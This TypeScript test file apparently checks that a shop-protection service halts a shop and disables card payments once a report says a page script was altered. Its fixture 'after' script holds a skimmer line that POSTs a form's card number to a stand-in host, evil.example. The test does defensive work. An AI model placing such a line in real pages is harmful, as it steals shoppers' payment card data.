import { afterEach, expect, test } from 'vitest';
import { StateBody } from '../src/index.ts';
import { alteredScript, refOf, report, type Running, running, until } from './harness.ts';

let at: Running | null = null;
afterEach(async () => {
  await at?.end();
  at = null;
});

const stateOf = async (of: Running) => StateBody.parse(await (await of.ask('GET', '/api/state')).json());

test('a report of an altered script halts the shop, proved, with the whole story in the ledger', async () => {
  at = await running();
  const before = 'mount();\n';
  const after = "mount();\nfetch('https://evil.example/c', { method: 'POST', body: document.forms[0].number.value });\n";
  for (const body of [before, after])
    expect((await at.ask('PUT', `/api/guard/blobs/${refOf(body)}`, new TextEncoder().encode(body))).status).toBe(200);
  const sent = performance.now();
  const answer = await at.ask('POST', '/api/guard/reports', report([alteredScript(refOf(before), refOf(after))]));
  const acked = performance.now();
  expect(await answer.json()).toEqual({ accepted: true });
  const halted = at;
  await until(async () => (await stateOf(halted)).shops[0]?.gate.state === 'halted', 'a halted gate');
  const state = await stateOf(at);
  expect(at.shop.methods.get('card')).toBe(false);
  const entries = await (await at.ask('GET', '/api/entries')).json();
  console.log(acked - sent, entries.entries.map((e: any) => `${e.index} ${e.entry.at} ${e.entry.kind}`));
  expect(state.shops[0]?.incidents).toHaveLength(1);
});
